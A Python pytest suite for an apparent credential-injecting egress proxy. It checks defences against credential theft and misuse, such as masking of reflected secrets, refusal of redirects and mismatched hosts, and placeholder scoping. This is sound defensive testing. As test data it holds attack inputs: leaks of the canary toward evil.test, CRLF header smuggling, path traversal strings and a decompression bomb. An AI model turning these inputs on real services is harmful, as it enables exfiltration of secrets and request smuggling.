"""Stealing credentials, or using them where they do not belong (threats T76 to T86).

After each test the canary is nowhere on this side of the origin: `canary_stays`.
"""

from __future__ import annotations

import base64
import gzip
import html
import json
import re
import urllib.parse
import zlib
from typing import Any

import pytest

from hutch.egress.policy import check
from hutch.errors import BadRequestError
from tests.egress.world import API, CANARY, EVIL, SHARED, Guest, World

pytestmark = [pytest.mark.root, pytest.mark.usefixtures("canary_stays")]

OK = b"HTTP/1.1 200 OK\r\n"
RULE = {"transform": [{"headers": {"authorization": f"Bearer {CANARY}"}}]}
POLICY = {"allow": {"api.test": [RULE]}}
GET = b"GET /v1 HTTP/1.1\r\nhost: api.test\r\nconnection: close\r\n\r\n"
STORED = {"transform": [{"headers": {"authorization": {"credential": "key", "format": "Bearer {}"}}}]}
PLACEHOLDER = "hutch-placeholder-5d41402abc4b2a76b9719d911017c592"
PLACEHOLDERS = [{"text": PLACEHOLDER, "variable": "KEY", "credential": "key"}]
WITH_PLACEHOLDER = {
    "transform": [{"headers": {"authorization": {"credential": "key", "format": "Bearer {}", "placeholder": "KEY"}}}]
}

GZIPPED = gzip.compress(CANARY.encode())


def sized(body: bytes, *headers: bytes) -> bytes:
    return OK + b"".join(line + b"\r\n" for line in headers) + b"content-length: %d\r\n\r\n" % len(body) + body


def chunked(body: bytes, size: int, *headers: bytes, trailers: bytes = b"") -> bytes:
    pieces = [body[at : at + size] for at in range(0, len(body), size)]
    framed = b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces)
    return (
        OK
        + b"".join(line + b"\r\n" for line in (*headers, b"transfer-encoding: chunked"))
        + b"\r\n"
        + framed
        + b"0\r\n"
        + trailers
        + b"\r\n"
    )


async def ask(guest: Guest, request: bytes = GET, name: str = "api.test", address: str = API, wait_s: float = 5.0) -> bytes:
    """Everything that comes back for a request until the end, or until nothing comes for `wait_s`; as it came."""
    program = """
    import base64
    answer = exchange(sys.argv[1], sys.argv[2], base64.b64decode(sys.argv[3]), float(sys.argv[4]))
    say(base64.b64encode(answer.encode("latin-1")).decode())
    """
    ran = await guest.python(program, address, name, base64.b64encode(request).decode(), str(wait_s))
    answer = base64.b64decode(ran.json())
    # What it printed was encoded; this is what everybody in the guest could have read.
    guest.printed.append(answer.decode("latin-1"))
    return answer


def body_of(answer: bytes) -> bytes:
    """The body of an answer, chunks put together."""
    head, _, body = answer.partition(b"\r\n\r\n")
    if b"transfer-encoding: chunked" not in head.lower():
        return body
    whole = b""
    while body:
        size, _, body = body.partition(b"\r\n")
        length = int(size, 16)
        if length == 0:
            break
        whole, body = whole + body[:length], body[length + 2 :]
    return whole


def forms() -> dict[str, bytes]:
    """The canary as encoders write it (`docs/policy-engine.md`; every form that is promised to be found)."""
    raw, rendered = CANARY.encode(), f"Bearer {CANARY}".encode()
    found = {
        "raw": raw,
        "rendered": rendered,
        "upper": raw.upper(),
        "lower": raw.lower(),
        "hex": raw.hex().encode(),
        "HEX": raw.hex().upper().encode(),
        "percent": urllib.parse.quote(CANARY, safe="").replace("-", "%2D").encode(),
        "percent full": "".join(f"%{byte:02X}" for byte in raw).encode(),
        "json": "".join(f"\\u00{byte:02x}" for byte in raw).encode(),
        "html": html.escape(CANARY).encode(),
        "html decimal": "".join(f"&#{byte};" for byte in raw).encode(),
        "html hex": "".join(f"&#x{byte:X};" for byte in raw).encode(),
        "utf-16le": CANARY.encode("utf-16le"),
        "utf-16be": CANARY.encode("utf-16be"),
        "base64 rendered": base64.b64encode(rendered),
        "base64 json": base64.b64encode(json.dumps({"token": CANARY}).encode()),
    }
    for before in ("", "a", "ab"):
        padded = before.encode() + raw + b"!"
        found[f"base64 {before}"] = base64.b64encode(padded)
        found[f"base64url {before}"] = base64.urlsafe_b64encode(padded).rstrip(b"=")
    return found


def remains(form: bytes, masked: bytes) -> bytes:
    """The bytes of a form that are still to be read, where it came back as `masked`."""
    assert len(masked) == len(form), "masking changed a length"
    return bytes(byte for byte in masked if byte != ord("*"))


@pytest.mark.parametrize("how", ["whole", "chunks", "records"])
@pytest.mark.defence("scrub-bodies")
async def test_t76_every_form_in_a_body_is_masked(outside: World, how: str) -> None:
    guest = await outside.guest(POLICY)
    lines = forms()
    body = b"".join(b"[%02d|" % index + form + b"]" for index, form in enumerate(lines.values()))
    reply = {"whole": sized(body), "chunks": chunked(body, 1), "records": sized(body)}[how]
    outside.origins.script("api.test", reply, step=1 if how == "records" else 0)
    answer = await ask(guest)
    got = body_of(answer)
    assert len(got) == len(body)
    at = 0
    for index, (name, form) in enumerate(lines.items()):
        at = body.index(b"[%02d|" % index, at) + 4
        masked = got[at : at + len(form)]
        # Of Base64 up to three digits on either side have bits of other bytes too; what was around the secret is none.
        around = {"base64 json": 22, "base64 rendered": 13}.get(name, 6 if "base64" in name else 0)
        assert len(remains(form, masked)) <= around, (name, masked)
        at += len(form)
    assert b"authorization: Bearer " + CANARY.encode() in outside.origins.seen().data
    record = await guest.audited(kind="http", decision="inject")
    assert record["reflected"] >= len(lines) - 2
    assert record["injected"] == ["authorization"]


@pytest.mark.defence("scrub-heads")
async def test_t76_heads_are_masked_down_to_the_names(outside: World) -> None:
    guest = await outside.guest(POLICY)
    secret = CANARY.encode()
    lines = [
        b"www-authenticate: Bearer error=" + secret,
        b"set-cookie: session=" + base64.b64encode(secret),
        b"access-control-allow-headers: authorization, " + secret,
        b"location: https://evil.test/?token=" + secret,
        b"x-" + secret + b": named",
    ]
    early = b"HTTP/1.1 103 Early Hints\r\nlink: <" + secret + b">\r\n\r\n"
    head = b"HTTP/1.1 401 No " + secret + b"\r\n" + b"\r\n".join(lines) + b"\r\ncontent-length: 2\r\n\r\nno"
    outside.origins.script("api.test", early + head)
    answer = await ask(guest)
    assert secret.lower() not in answer.lower()
    assert base64.b64encode(secret) not in answer
    assert answer.startswith(b"HTTP/1.1 401 ")
    assert b"bearer error=" + b"*" * len(secret) in answer.lower()
    assert b"named" not in answer
    record = await guest.audited(kind="http")
    assert (record["status"], record["reflected"]) == (401, 5)


@pytest.mark.defence("scrub-trailers")
async def test_t76_trailers_are_masked(outside: World) -> None:
    guest = await outside.guest(POLICY)
    secret = CANARY.encode()
    trailers = b"x-echo: " + secret + b"\r\nx-" + secret + b": named\r\nx-fine: yes\r\n"
    outside.origins.script("api.test", chunked(b"body", 4, b"trailer: x-echo", trailers=trailers))
    answer = await ask(guest)
    assert secret.lower() not in answer.lower()
    assert b"x-echo: " + b"*" * len(secret) in answer
    assert b"x-fine: yes" in answer
    assert b"named" not in answer
    assert (await guest.audited(kind="http"))["reflected"] == 2


@pytest.mark.parametrize("where", ["body", "header", "trailer"])
@pytest.mark.defence("reflections")
async def test_t76_three_reflections_disable_the_rule(outside: World, where: str) -> None:
    guest = await outside.guest(POLICY)
    secret = CANARY.encode()
    replies = {
        "body": sized(secret),
        "header": sized(b"", b"x-echo: " + secret),
        "trailer": chunked(b"x", 1, trailers=b"x-echo: " + secret + b"\r\n"),
    }
    outside.origins.script("api.test", replies[where])
    for _ in range(3):
        assert (await guest.curl("https://api.test/")).out.endswith("200")
    refused = await guest.curl("-i", "https://api.test/")
    assert refused.out.endswith("403")
    assert "x-hutch-reason: credential_reflected" in refused.out
    assert outside.origins.seen().data.count(secret) == 3
    assert await guest.audited(kind="limit", reason="credential_reflected", decision="deny")
    assert await guest.audited(kind="http", reason="credential_reflected", decision="deny", status=403)
    # An update is somebody's decision to try again.
    await guest.policy(POLICY)
    assert (await guest.curl("https://api.test/")).out.endswith("200")


WEBSOCKET = (
    b"GET /socket HTTP/1.1\r\nhost: api.test\r\nconnection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n"
    b"sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-extensions: permessage-deflate\r\n\r\n"
)
SWITCH = (
    b"HTTP/1.1 101 Switching Protocols\r\nconnection: Upgrade\r\nupgrade: websocket\r\n"
    b"sec-websocket-accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n"
)


@pytest.mark.defence("scrub-tunnels")
async def test_t76_websockets_are_masked_and_counted(outside: World) -> None:
    guest = await outside.guest(POLICY)
    frame = b"\x81" + bytes([len(CANARY)]) + CANARY.encode()
    outside.origins.script("api.test", SWITCH + b"\r\n" + frame * 3, close=True)
    answer = await ask(guest, WEBSOCKET)
    assert answer.startswith(b"HTTP/1.1 101 ")
    assert answer.count(b"*" * len(CANARY)) == 3
    sent = outside.origins.seen().data
    assert CANARY.encode() in sent
    assert b"permessage-deflate" not in sent
    assert (await guest.audited(kind="http", status=101))["reflected"] == 3
    assert (await guest.curl("https://api.test/")).out.endswith("403")


@pytest.mark.defence("offered-extensions")
async def test_t76_a_websocket_with_extensions_that_nobody_asked_for_is_refused(outside: World) -> None:
    guest = await outside.guest(POLICY)
    outside.origins.script("api.test", SWITCH + b"sec-websocket-extensions: permessage-deflate\r\n\r\n")
    assert b"x-hutch-reason: unscannable" in await ask(guest, WEBSOCKET, wait_s=0.5)
    assert await guest.audited(kind="http", reason="unscannable", decision="deny")


@pytest.mark.xfail(
    strict=True, reason="residual: an answer to a request without the secret is not searched (docs/threat-model.md)"
)
async def test_t76_an_echo_of_what_another_request_stored(outside: World) -> None:
    guest = await outside.guest({"allow": {"api.test": [{**RULE, "match": {"path": {"exact": "/store"}}}]}})
    await guest.curl("https://api.test/store")
    assert CANARY.encode() in outside.origins.seen().data
    # The canary without its last letter, which the guest's output must not have; a form that is found, all the same.
    stored = base64.b64encode(CANARY.encode())
    outside.origins.script("api.test", sized(stored))
    assert stored.decode() not in (await guest.curl("https://api.test/list")).out


@pytest.mark.defence("searchable")
async def test_t77_requests_forbid_what_could_not_be_searched(outside: World) -> None:
    guest = await outside.guest(POLICY)
    asked = ["accept-encoding: gzip, br", "Accept_Encoding: zstd", "range: bytes=10-14", "if-range: x", "te: trailers, gzip"]
    asked += ["grpc-accept-encoding: identity, gzip", "connect-accept-encoding: gzip"]
    arguments = [part for line in asked for part in ("-H", line)]
    assert (await guest.curl(*arguments, "https://api.test/")).out == "ok\n200"
    sent = outside.origins.seen().data.lower()
    assert sorted(re.findall(rb"(?m)^(\S*)accept-encoding: identity\r$", sent)) == [b"", b"connect-", b"grpc-"]
    for word in (b"gzip", b"br\r\n", b"zstd", b"range"):
        assert word not in sent


def raw_deflate(body: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(body) + packer.flush()


@pytest.mark.parametrize(
    ("encoding", "pack"),
    [("gzip", gzip.compress), ("x-gzip", gzip.compress), ("deflate", zlib.compress), ("deflate", raw_deflate)],
)
@pytest.mark.parametrize("step", [0, 1])
@pytest.mark.defence("encodings")
async def test_t77_gzip_and_deflate_are_decoded_and_searched(outside: World, encoding: str, pack: Any, step: int) -> None:
    guest = await outside.guest(POLICY)
    text = b"before " + CANARY.encode() + b" after " + CANARY.encode()
    packed = pack(text)
    reply = (
        chunked(packed, 3, b"content-encoding: " + encoding.encode())
        if step
        else sized(packed, b"content-encoding: " + encoding.encode())
    )
    outside.origins.script("api.test", reply, step=step)
    answer = await ask(guest)
    assert body_of(answer) == text.replace(CANARY.encode(), b"*" * len(CANARY))
    assert b"content-encoding" not in answer.lower()
    assert (await guest.audited(kind="http", decision="inject"))["reflected"] == 2


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        ([b"content-encoding: br"], b"\x8b\x02\x80abc\x03"),
        ([b"content-encoding: zstd"], b"\x28\xb5\x2f\xfd"),
        ([b"content-encoding: gzip, gzip"], gzip.compress(gzip.compress(b"x"))),
        ([b"content-encoding: gzip", b"content-encoding: deflate"], b"x"),
        ([b"content-encoding: gzip"], b"not gzip at all"),
        ([b"content-encoding: gzip"], gzip.compress(bytes(4 << 20))),
        ([b"content-encoding: gzip"], gzip.compress(b"cut off in the middle")[:-6]),
        ([b"grpc-encoding: gzip"], b"\1" + len(GZIPPED).to_bytes(4) + GZIPPED),
        ([b"connect-content-encoding: gzip"], b"\1" + len(GZIPPED).to_bytes(4) + GZIPPED),
    ],
    ids=["brotli", "zstd", "twice", "two lines", "no gzip", "bomb", "truncated", "messages of gRPC", "messages of Connect"],
)
@pytest.mark.defence("encodings")
async def test_t77_what_cannot_be_searched_is_refused(outside: World, headers: list[bytes], body: bytes) -> None:
    guest = await outside.guest(POLICY)
    outside.origins.script("api.test", sized(body, *headers))
    answer = await ask(guest)
    assert answer.startswith(b"HTTP/1.1 502 "), answer
    assert b"x-hutch-reason: unscannable" in answer
    record = await guest.audited(kind="http", reason="unscannable")
    assert (record["decision"], record["status"]) == ("deny", 502)
    assert CANARY.encode() in outside.origins.seen().data


@pytest.mark.defence("decode-bounds")
async def test_t77_a_bomb_behind_a_harmless_beginning_is_cut(outside: World) -> None:
    guest = await outside.guest(POLICY)
    packer = zlib.compressobj(wbits=31)
    start = packer.compress(b"harmless") + packer.flush(zlib.Z_SYNC_FLUSH)
    packed = start + packer.compress(bytes(16 << 20)) + packer.flush()
    outside.origins.script("api.test", chunked(packed, len(start), b"content-encoding: gzip"), step=len(start) + 120)
    answer = await ask(guest)
    assert len(answer) < 1 << 20
    assert not answer.endswith(b"0\r\n\r\n")
    assert await guest.audited(kind="http", reason="unscannable", decision="deny")


@pytest.mark.defence("response-framing")
async def test_t77_codings_beneath_the_chunks_are_refused(outside: World) -> None:
    guest = await outside.guest(POLICY)
    packed = gzip.compress(CANARY.encode())
    framed = chunked(packed, 1000).replace(b"transfer-encoding: chunked", b"transfer-encoding: gzip, chunked")
    outside.origins.script("api.test", framed)
    answer = await ask(guest)
    assert answer.startswith(b"HTTP/1.1 502 "), answer
    assert packed[10:] not in answer
    assert await guest.audited(kind="http", status=502)


@pytest.mark.defence("scrub-bodies")
@pytest.mark.defence("scrub-heads")
async def test_t77_parts_of_ranges_and_heads_alone_are_searched(outside: World) -> None:
    guest = await outside.guest(POLICY)
    secret = CANARY.encode()
    part = b"--b\r\ncontent-range: bytes 0-9/99\r\n\r\n" + secret + b"\r\n--b--\r\n"
    partial = sized(part, b"content-type: multipart/byteranges; boundary=b").replace(b"200 OK", b"206 Partial Content")
    alone = OK + b"etag: " + secret + b"\r\ncontent-length: 5\r\n\r\n"
    outside.origins.script("api.test", partial)
    assert secret not in await ask(guest)
    # A script is that of a connection from its beginning: an update has another one made.
    outside.origins.script("api.test", alone)
    await guest.policy(POLICY)
    answer = await ask(guest, GET.replace(b"GET", b"HEAD", 1))
    assert b"etag: " + b"*" * len(secret) in answer
    assert b"content-length: 5" in answer


@pytest.mark.parametrize("computed", ["reversed", "rot13", "one at a time", "ebcdic"])
@pytest.mark.xfail(strict=True, reason="residual: what is computed is not found; scope the rule to paths (docs/threat-model.md)")
async def test_t77_computed_forms(outside: World, computed: str) -> None:
    guest = await outside.guest(POLICY)
    letters = "".join(chr((ord(char.lower()) - 97 + 13) % 26 + 97) if char.isalpha() else char for char in CANARY)
    texts = {
        "reversed": [CANARY[::-1].encode()],
        "rot13": [letters.encode()],
        "ebcdic": [CANARY.encode("cp037")],
        "one at a time": [char.encode() for char in CANARY[:4]],
    }[computed]
    outside.origins.script("api.test", *map(sized, texts))
    program = """
    request = b"GET / HTTP/1.1\\r\\nhost: api.test\\r\\n\\r\\n"
    with tls(sys.argv[1], "api.test") as stream:
        got = []
        for _ in range(int(sys.argv[2])):
            stream.sendall(request)
            answer = b""
            while len(answer.partition(b"\\r\\n\\r\\n")[2]) < int(sys.argv[3]):
                answer += stream.recv(65536)
            got.append(answer.partition(b"\\r\\n\\r\\n")[2].hex())
        say(got)
    """
    got = (await guest.python(program, API, str(len(texts)), str(len(texts[0])))).json()
    assert [bytes.fromhex(text) for text in got] != texts


@pytest.mark.defence("short-secrets")
def test_t78_short_secrets_cannot_be_scrubbed() -> None:
    short = {"transform": [{"headers": {"authorization": "Bearer abc"}}]}
    assert [warning.code for warning in check({"allow": {"api.test": [short]}}).warnings] == ["value_too_short_to_scrub"]
    with pytest.raises(BadRequestError):
        check({"allow": {"api.test": [{**short, "scrub": True}]}})
    check({"allow": {"api.test": [{**short, "scrub": False}]}})


@pytest.mark.defence("domain-patterns")
async def test_t79_redirects_are_not_followed(outside: World) -> None:
    guest = await outside.guest(POLICY)
    redirect = b"HTTP/1.1 302 Found\r\nlocation: https://evil.test/?k=" + CANARY.encode() + b"\r\ncontent-length: 0\r\n\r\n"
    outside.origins.script("api.test", redirect)
    ran = await guest.curl("-L", "--location-trusted", "-i", "--resolve", f"evil.test:443:{EVIL}", "https://api.test/")
    assert "location: https://evil.test/?k=" + "*" * len(CANARY) in ran.out
    assert not outside.origins.seen().to("evil.test")
    assert await guest.audited(kind="tls", name="evil.test", reason="domain_deny", decision="deny")
    # Where the other name is allowed, it is asked without what belongs to this one.
    await guest.policy({"allow": {"api.test": [RULE], "evil.test": []}})
    ran = await guest.curl("-L", "--location-trusted", "https://api.test/")
    assert ran.out == "ok\n200"
    assert [CANARY.encode() in connection["data"] for connection in outside.origins.seen().to("evil.test")] == [False]


@pytest.mark.defence("matchers")
async def test_t80_a_rule_injects_only_where_it_matches(outside: World) -> None:
    scoped = {**RULE, "match": {"path": {"startsWith": "/v1/chat/"}, "method": ["POST"]}}
    rest = {"response": {"statusCode": 403, "body": "no", "contentType": "text/plain"}}
    guest = await outside.guest({"allow": {"api.test": [scoped], "cdn.test": [scoped, rest]}})
    assert (await guest.curl("-d", "x", "https://api.test/v1/chat/completions")).out == "ok\n200"
    elsewhere = ["/v1/keys", "/v1/chat/../keys", "/v1/chat%2f", "/v1//chat/x", "/V1/chat/x", "/v1/chat/%2e%2e/keys"]
    for path in elsewhere:
        ran = await guest.curl("--http1.1", "--path-as-is", "-d", "x", f"https://api.test{path}")
        assert ran.out.splitlines()[-1] in ("200", "400"), (path, ran)
    assert (await guest.curl("-X", "GET", "https://api.test/v1/chat/x")).out == "ok\n200"
    for override in ("x-http-method-override: POST", "X_HTTP_Method_Override: POST"):
        assert (await guest.curl("-X", "GET", "-H", override, "https://api.test/v1/chat/x")).out == "ok\n200"
    assert (await guest.curl("https://cdn.test/v1/keys")).out == "no\n403"
    seen = outside.origins.seen()
    assert seen.data.count(CANARY.encode()) == 1
    assert not seen.to("cdn.test")
    assert b"override" not in b"".join(connection["data"] for connection in seen.to("api.test")).lower()
    assert len(await guest.audit(kind="http", decision="inject")) == 1
    assert await guest.audited(kind="http", decision="respond", name="cdn.test", status=403)


@pytest.mark.defence("unmatched")
@pytest.mark.defence("matchers")
async def test_t81_another_tenant_of_the_same_service(outside: World) -> None:
    bucket = {**RULE, "match": {"path": {"startsWith": "/my-bucket/"}}}
    guest = await outside.guest({"allow": {"api.test": [bucket]}, "defaults": {"unmatched": "deny"}})
    assert (await guest.curl("-T", "/etc/hostname", "https://api.test/my-bucket/object")).out == "ok\n200"
    for path in ("/their-bucket/object", "/my-bucket", "/my-bucket/../their-bucket/object", "/my-bucket%2f../x"):
        ran = await guest.curl("--http1.1", "--path-as-is", "-T", "/etc/hostname", f"https://api.test{path}")
        assert ran.out.splitlines()[-1] in ("400", "403"), (path, ran)
    assert b"their-bucket" not in outside.origins.seen().data
    assert await guest.audited(kind="http", reason="unmatched", decision="deny")
    with pytest.raises(BadRequestError):
        check({"allow": {"*.s3.amazonaws.com": [RULE]}})
    broad = check({"allow": {"*.s3.amazonaws.com": [{**RULE, "acknowledgeBroad": True}]}})
    assert "multi_tenant" in [warning.code for warning in broad.warnings]


@pytest.mark.defence("ambient-use")
async def test_t82_only_who_has_the_placeholder_gets_the_credential(outside: World) -> None:
    guest = await outside.guest(
        {"allow": {"api.test": [WITH_PLACEHOLDER]}}, credentials={"key": CANARY}, placeholders=PLACEHOLDERS
    )
    assert (await guest.curl("-H", "authorization: Bearer guess", "https://api.test/ambient")).out == "ok\n200"
    assert CANARY.encode() not in outside.origins.seen().data
    assert (await guest.curl("-H", f"authorization: Bearer {PLACEHOLDER}", "https://api.test/meant")).out == "ok\n200"
    data = outside.origins.seen().data
    assert data.count(CANARY.encode()) == 1
    assert PLACEHOLDER.encode() not in data
    assert not (await guest.audit(kind="http", path="/ambient"))[0].get("injected")
    assert (await guest.audited(kind="http", path="/meant"))["injected"] == ["authorization"]


BASIC = base64.b64encode(f"user:{PLACEHOLDER}".encode()).decode()
SURFACES: dict[str, tuple[list[str], str]] = {
    "header": (["-H", f"authorization: Bearer {PLACEHOLDER}"], "/"),
    "another header": (["-H", f"x-any: {PLACEHOLDER}"], "/"),
    "basic": (["-H", f"authorization: Basic {BASIC}"], "/"),
    "cookie": (["-H", f"cookie: a=b; key={PLACEHOLDER}"], "/"),
    "query": ([], f"/?key={PLACEHOLDER}"),
    "path": ([], f"/x/{PLACEHOLDER}/y"),
    "header's name": (["-H", f"{PLACEHOLDER}: x"], "/"),
    "within another": (["-H", f"x-any: {PLACEHOLDER[:20]}{PLACEHOLDER}{PLACEHOLDER[20:]}"], "/"),
    "nominated header": (["--http1.1", "-H", f"x-any: {PLACEHOLDER}", "-H", "connection: x-any"], "/"),
}


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.defence("placeholder-scope")
async def test_t83_a_placeholder_towards_another_host_is_refused(outside: World, surface: str) -> None:
    guest = await outside.guest(
        {"allow": {"api.test": [WITH_PLACEHOLDER], "other.test": [{"transform": [{"headers": {"x-plain": "fine"}}]}]}},
        credentials={"key": CANARY},
        placeholders=PLACEHOLDERS,
    )
    arguments, path = SURFACES[surface]
    ran = await guest.curl("-i", *arguments, f"https://other.test{path}")
    assert ran.out.endswith("403"), ran
    assert "x-hutch-reason: placeholder_misuse" in ran.out
    assert not outside.origins.seen().to("other.test")
    record = await guest.audited(kind="http", name="other.test", reason="placeholder_misuse")
    assert record["decision"] == "deny"


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.defence("placeholder-scope")
async def test_t83_a_placeholder_towards_its_host(outside: World, surface: str) -> None:
    guest = await outside.guest(
        {"allow": {"api.test": [WITH_PLACEHOLDER]}}, credentials={"key": CANARY}, placeholders=PLACEHOLDERS
    )
    arguments, path = SURFACES[surface]
    ran = await guest.curl("-i", *arguments, f"https://api.test{path}")
    data = outside.origins.seen().data
    assert PLACEHOLDER.encode() not in data
    if surface in ("path", "header's name"):
        assert ran.out.endswith("403"), ran
        assert not data
        assert await guest.audited(kind="http", reason="placeholder_misuse", decision="deny")
    elif surface == "nominated header":
        assert ran.out.endswith("200"), ran
        assert CANARY.encode() not in data
    else:
        assert ran.out.endswith("200"), ran
        wanted = base64.b64encode(f"user:{CANARY}".encode()) if surface == "basic" else CANARY.encode()
        assert data.count(wanted) == 1, data
        assert (await guest.audited(kind="http", decision="inject"))["injected"]


@pytest.mark.defence("placeholder-scope")
async def test_t83_a_placeholder_is_found_however_it_arrives(outside: World) -> None:
    guest = await outside.guest(
        {"allow": {"api.test": [WITH_PLACEHOLDER], "other.test": [{"transform": [{"headers": {"x-plain": "fine"}}]}]}},
        credentials={"key": CANARY},
        placeholders=PLACEHOLDERS,
    )
    program = """
    head = "GET / HTTP/1.1\\r\\nhost: %s\\r\\nauthorization: Bearer %s\\r\\n" % (sys.argv[2], sys.argv[3])
    head += "connection: close\\r\\n\\r\\n"
    with tls(sys.argv[1], sys.argv[2]) as stream:
        for byte in head.encode():
            stream.sendall(bytes([byte]))
        say(read_all(stream).decode("latin-1"))
    """
    assert "placeholder_misuse" in (await guest.python(program, SHARED, "other.test", PLACEHOLDER)).json()
    assert "200 OK" in (await guest.python(program, API, "api.test", PLACEHOLDER)).json()
    assert outside.origins.seen().data.count(CANARY.encode()) == 1


@pytest.mark.parametrize("body", ["json key", "multipart", "form"])
async def test_t83_a_body_is_passed_as_it_is(outside: World, body: str) -> None:
    # Bodies are not looked into: the placeholder in one is a random text that means nothing to anybody but the gateway.
    guest = await outside.guest(
        {"allow": {"api.test": [WITH_PLACEHOLDER]}}, credentials={"key": CANARY}, placeholders=PLACEHOLDERS
    )
    arguments = {
        "json key": ["--json", json.dumps({PLACEHOLDER: 1})],
        "multipart": ["-F", f"key={PLACEHOLDER}"],
        "form": ["-d", f"key={PLACEHOLDER}"],
    }[body]
    assert (await guest.curl(*arguments, "https://api.test/")).out == "ok\n200"
    seen = await outside.origins.wait(lambda seen: PLACEHOLDER.encode() in seen.data, "the body did not arrive")
    assert CANARY.encode() not in seen.data


@pytest.mark.parametrize("value", ["line\r\nx-more: 1", "nul\0byte", "line\nfeed"])
@pytest.mark.defence("value-lines")
async def test_t84_no_value_adds_a_line(outside: World, value: str) -> None:
    secret = CANARY + value
    guest = await outside.guest({"allow": {"api.test": [STORED]}}, credentials={"key": secret})
    refused = await guest.curl("-i", "https://api.test/")
    assert refused.out.endswith("503"), refused
    assert "x-hutch-reason: credential_missing" in refused.out
    await guest.policy({"allow": {"api.test": [WITH_PLACEHOLDER]}}, credentials={"key": secret}, placeholders=PLACEHOLDERS)
    refused = await guest.curl("-i", "-H", f"authorization: {PLACEHOLDER}", "https://api.test/")
    assert refused.out.splitlines()[-1] in ("400", "503"), refused
    assert not outside.origins.seen().data
    with pytest.raises(BadRequestError):
        check({"allow": {"api.test": [{"transform": [{"headers": {"authorization": value}}]}]}})


@pytest.mark.defence("no-plaintext-secrets")
@pytest.mark.defence("secret-ports")
async def test_t85_no_credential_goes_in_the_clear(outside: World) -> None:
    guest = await outside.guest({**POLICY, "defaults": {"plaintextHttp": True, "ports": [80, 443, 8080, 8443]}})
    for address in (API, SHARED, EVIL):
        outside.origins.script(f"{address}:80", sized(b"plain"))
    ran = await guest.curl("-i", "http://api.test/")
    assert ran.out.endswith("403"), ran
    assert "x-hutch-reason: plaintext_credential" in ran.out
    assert (await guest.audited(kind="http", reason="plaintext_credential"))["decision"] == "deny"
    await guest.curl("http://api.test:8080/")
    await guest.policy(POLICY)
    for url in ("http://api.test/", "http://api.test:443/", "https://api.test:8443/"):
        ran = await guest.curl(url)
        assert ran.code != 0 or ran.out.splitlines()[-1] in ("400", "403"), url
    assert not outside.origins.seen().data


@pytest.mark.parametrize(
    ("name", "host", "target"),
    [
        ("evil.test", "api.test", "/"),
        ("api.test", "evil.test", "/"),
        ("api.test", "api.test", "https://evil.test/"),
        ("api.test", "api.test:8443", "/"),
        ("api.test", "api.test\r\nhost: evil.test", "/"),
        ("api.test", f"{EVIL}", "/"),
    ],
)
@pytest.mark.defence("host-is-name")
async def test_t86_names_that_disagree_get_nothing(outside: World, name: str, host: str, target: str) -> None:
    guest = await outside.guest({"allow": {"api.test": [RULE], "evil.test": [{"transform": [{"headers": {"x-a": "b"}}]}]}})
    request = f"GET {target} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n".encode()
    answer = await ask(guest, request, name, EVIL)
    assert answer[:13] in (b"HTTP/1.1 421 ", b"HTTP/1.1 400 "), answer
    assert outside.origins.seen().is_silent
    record = (await guest.audited(kind="http", decision="deny"))["reason"]
    assert record in ("name_mismatch", "protocol_violation")


@pytest.mark.defence("own-dial")
async def test_t86_the_address_does_not_choose_the_server(outside: World) -> None:
    guest = await outside.guest(POLICY)
    answer = await ask(guest, GET, "api.test", EVIL)
    assert answer.startswith(b"HTTP/1.1 200 ")
    connection = outside.origins.seen().to("api.test")[0]
    assert connection["local"] == f"{API}:443"
    assert CANARY.encode() in connection["data"]
    record = await guest.audited(kind="http", decision="inject")
    assert (record["dst"], record["origDst"]) == (f"{API}:443", f"{EVIL}:443")


@pytest.mark.defence("server-certificates")
async def test_t86_a_server_that_cannot_vouch_for_the_name_gets_nothing(outside: World) -> None:
    guest = await outside.guest({"allow": {name: [RULE] for name in ("wrongname.test", "selfsigned.test", "expired.test")}})
    for name in ("wrongname.test", "selfsigned.test", "expired.test"):
        ran = await guest.curl("-i", f"https://{name}/")
        assert ran.out.endswith("502"), ran
        assert "x-hutch-reason: upstream_tls" in ran.out
        assert await guest.audited(kind="http", name=name, error="upstream_tls")
    assert CANARY.encode() not in outside.origins.seen().data
